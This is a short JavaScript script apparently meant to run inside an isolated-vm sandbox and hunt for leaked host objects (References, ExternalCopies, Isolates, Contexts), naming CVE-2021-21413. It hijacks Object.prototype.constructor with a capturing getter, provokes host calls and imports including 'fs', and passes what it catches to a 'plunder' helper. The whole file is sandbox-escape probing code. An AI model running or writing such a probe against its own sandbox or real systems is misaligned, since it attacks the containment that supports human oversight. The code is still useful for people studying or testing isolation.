// A walk over everything that can be reached, for anything of isolated-vm's: Reference, ExternalCopy,
// Isolate, Context, Module (CVE-2021-21413).
const { collector, plunder } = require('./plunder.js');

async function execute(params) {
  const bag = collector();
  // References, copies and callbacks would show here: as own properties, as `this`, as callees.
  Object.defineProperty(Object.prototype, 'constructor', { configurable: true, get() { bag.take(this); return Object; } });
  const settled = await Promise.allSettled([echo({}), fail(), artifacts.write('a', 'b'), import('./plunder.js'), import('fs')]);
  delete Object.prototype.constructor;
  Object.prototype.constructor = Object;
  const namespace = await import('./plunder.js');
  const report = plunder([globalThis, settled, namespace, params, module, require, ...bag.values()], params);
  const odd = Object.getOwnPropertyNames(globalThis).filter((name) => {
    const text = Object.prototype.toString.call(globalThis[name]);
    return /Reference|ExternalCopy|Isolate|Context|Callback|Module|External/.test(text);
  });
  return { tried: report.tried, reached: [...report.reached, ...odd] };
}
